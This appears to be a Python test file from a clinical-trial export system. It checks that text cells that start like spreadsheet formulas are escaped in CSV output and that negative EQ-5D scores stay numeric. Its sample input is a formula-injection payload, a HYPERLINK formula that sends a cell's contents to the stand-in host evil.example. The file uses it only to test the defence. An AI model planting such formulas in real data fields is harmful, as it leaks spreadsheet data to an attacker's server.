"""A text that starts like a formula reaches the analyst's CSV as text, never as a live
formula; numbers (a negative EQ-5D index) stay numbers and snapshots stay byte-identical."""

from __future__ import annotations

import csv
import io
import zipfile
from uuid import UUID

from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from projections.exports import ExportKind, View
from projections.exports.cells import TEXT_CELL_NOTE
from projections.reports.tables import table_csv
from tests import factories
from tests.exports.conftest import Built, export_bytes

LEADS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")'


def _files(data: bytes) -> dict[str, list[dict[str, str]]]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {
        name: list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8"), newline="")))
        for name in archive.namelist()
        if name.endswith(".csv")
    }


def _end_study(built: Built, reason: str) -> UUID:
    pid = built.small.ids["E"]  # awaiting consent: may still end the study
    built.trial.record_end_of_study(
        built.actors["site_staff"],
        pid,
        {"EOS_DATE": "2025-01-15", "EOS_STATUS": "withdrew consent", "EOS_REASON": reason},
    )
    return pid


def test_a_formula_typed_as_text_arrives_as_text(fresh: Built) -> None:
    pid = _end_study(fresh, HYPERLINK)
    files = _files(export_bytes(fresh.reader, ExportKind.CSV, View.UNBLINDED))
    (cell,) = [
        r["EOS_REASON"] for r in files["end_of_study.csv"] if r["participant_id"] == str(pid)
    ]
    assert cell == "'" + HYPERLINK
    blinded = _files(export_bytes(fresh.reader, ExportKind.CSV, View.BLINDED))
    cells = [
        r["EOS_REASON"] for r in blinded["end_of_study.csv"] if r["participant_id"] == str(pid)
    ]
    assert cells == ["'" + HYPERLINK]


def test_negative_numbers_stay_numbers(fresh: Built) -> None:
    trial, staff = fresh.trial, fresh.actors["assessor"]
    pid = fresh.small.ids["H"]
    worst = {f"EQ5D_{d}": 3 for d in ("MO", "SC", "UA", "PD", "AD")}
    trial.record_form(
        staff,
        pid,
        "month12",
        factories.outcomes("month12", ASSESS_DATE="2025-01-14", **worst),
        expected_version=0,
    )
    files = _files(export_bytes(fresh.reader, ExportKind.CSV, View.UNBLINDED))
    (row,) = [r for r in files["month12.csv"] if r["participant_id"] == str(pid)]
    assert row["EQ5D_INDEX_DK"].startswith("-")
    assert float(row["EQ5D_INDEX_DK"]) < 0


@hypothesis_settings(
    max_examples=8, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    text=st.builds(
        lambda lead, rest: lead + rest,
        st.sampled_from(["=", "+", "-", "@"]),
        st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S")), max_size=30),
    )
)
def test_no_text_cell_of_any_csv_starts_like_a_formula(fresh: Built, text: str) -> None:
    small = fresh.small
    staff = fresh.actors["site_staff"]
    participant = fresh.trial.repository.get(small.ids["D"])
    version = participant.form_version("end_of_study")
    if participant.sheets["end_of_study"].get("EOS_REASON") != text.strip():
        fresh.trial.correct_form(
            staff,
            small.ids["D"],
            "end_of_study",
            {"EOS_DATE": "2024-01-15", "EOS_STATUS": "withdrew consent", "EOS_REASON": text},
            expected_version=version,
            reason={"code": "other", "text": text},
        )
    first = export_bytes(fresh.reader, ExportKind.CSV, View.UNBLINDED)
    for rows in _files(first).values():
        for row in rows:
            for cell in row.values():
                if cell.startswith(LEADS):
                    float(cell)  # only a number may start with a sign
    # Reproducible: the same as_of gives the same bytes.
    assert export_bytes(fresh.reader, ExportKind.CSV, View.UNBLINDED) == first


def test_the_rule_is_in_the_data_dictionary_and_in_report_tables(fresh: Built) -> None:
    files = _files(export_bytes(fresh.reader, ExportKind.CSV, View.BLINDED))
    notes = {row["item"]: row["note"] for row in files["dictionary.csv"] if row["type"] == "text"}
    assert all(TEXT_CELL_NOTE in notes[item] for item in ("CONSENT_VERSION", "EOS_REASON"))
    assert table_csv(["site", "n"], [["@SUM(A1)", -3]]) == "site,n\n'@SUM(A1),-3\n"
